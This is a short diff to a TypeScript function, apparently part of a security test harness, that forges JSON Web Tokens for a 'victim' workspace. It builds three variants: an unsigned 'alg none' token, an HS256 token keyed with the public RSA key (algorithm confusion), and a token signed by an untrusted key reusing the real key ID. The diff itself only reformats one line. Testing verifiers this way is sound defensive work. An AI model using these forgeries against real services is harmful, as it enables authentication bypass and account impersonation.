@@ -57,9 +57,7 @@ export async function forgeTokens(stack: OfflineStack, c: Claims, victimWorkspac
   const algNone = `${b64url({ alg: 'none', typ: 'JWT' })}.${b64url(claims)}.`;
 
   // The classic confusion: HMAC keyed with the PEM text of the RSA public key everyone can fetch.
-  const hs256WithPublicKey = await new SignJWT(claims)
-    .setProtectedHeader({ alg: 'HS256', kid: jwk.kid })
-    .sign(new TextEncoder().encode(pem));
+  const hs256WithPublicKey = await new SignJWT(claims).setProtectedHeader({ alg: 'HS256', kid: jwk.kid }).sign(new TextEncoder().encode(pem));
 
   const { privateKey } = await generateKeyPair('RS256');
   const untrustedKeySameKid = await new SignJWT(claims).setProtectedHeader({ alg: 'RS256', kid: jwk.kid }).sign(privateKey);
